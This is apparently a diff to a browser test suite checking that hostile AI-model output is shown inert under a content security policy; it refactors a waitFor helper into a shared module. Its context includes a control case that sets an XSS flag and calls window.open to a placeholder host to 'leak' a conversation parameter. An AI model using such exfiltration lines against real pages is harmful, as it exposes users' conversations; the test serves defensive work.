@@ -21,6 +21,7 @@ import { answers, launchBrowser, openPage, sendPrompt, waitForAnswerDone, waitFo
 import { installExecutionTraps, type ExecutionTraps } from './support/hostile-traps.ts';
 import { batchPayloads } from './support/payload-batches.ts';
 import { startTestServer, type TestServer } from './support/test-server.ts';
+import { waitFor } from '../support/wait-for.ts';
 
 // 16 payloads an answer keeps the suite quick; 400 words stays under the page's 512 new tokens.
 const payloadBatches = batchPayloads(hostilePayloads, { maxPayloads: 16, maxWords: 400 });
@@ -202,7 +203,7 @@ describe('hostile model output is shown inert', () => {
       (window as unknown as { __xss: string }).__xss = 'control: flag';
       window.open('https://control.invalid/leak?conversation=secret', '_blank');
     });
-    await waitFor(async () => (await cspViolationsReported(server)) >= reportsBeforeControl + 3, 'the CSP reports of the control to arrive');
+    await waitFor(async () => (await cspViolationsReported(server)) >= reportsBeforeControl + 3, { what: 'the CSP reports of the control to arrive', timeoutMs: 10_000 });
 
     // CSP blocked all three, and the browser reported each…
     const seen = traps.records.map((record) => `${record.what}: ${record.detail}`);
@@ -211,7 +212,7 @@ describe('hostile model output is shown inert', () => {
     // …and the traps saw what got past it.
     assert.ok(seen.includes('alert: control: alert'), seen.join('\n'));
     assert.ok(seen.includes('__xss: control: flag'), seen.join('\n'));
-    await waitFor(async () => traps.offOriginRequests.some((line) => line.includes('control.invalid')), 'the router to see the control request');
+    await waitFor(async () => traps.offOriginRequests.some((line) => line.includes('control.invalid')), { what: 'the router to see the control request', timeoutMs: 10_000 });
   });
 });
 
@@ -221,13 +222,5 @@ async function failureOf(step: () => Promise<void>): Promise<unknown> {
     return null;
   } catch (error) {
     return error;
-  }
-}
-
-async function waitFor(condition: () => Promise<boolean>, what: string, timeoutMs = 10_000): Promise<void> {
-  const deadline = Date.now() + timeoutMs;
-  while (!(await condition())) {
-    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
-    await new Promise((resolve) => setTimeout(resolve, 100));
   }
 }
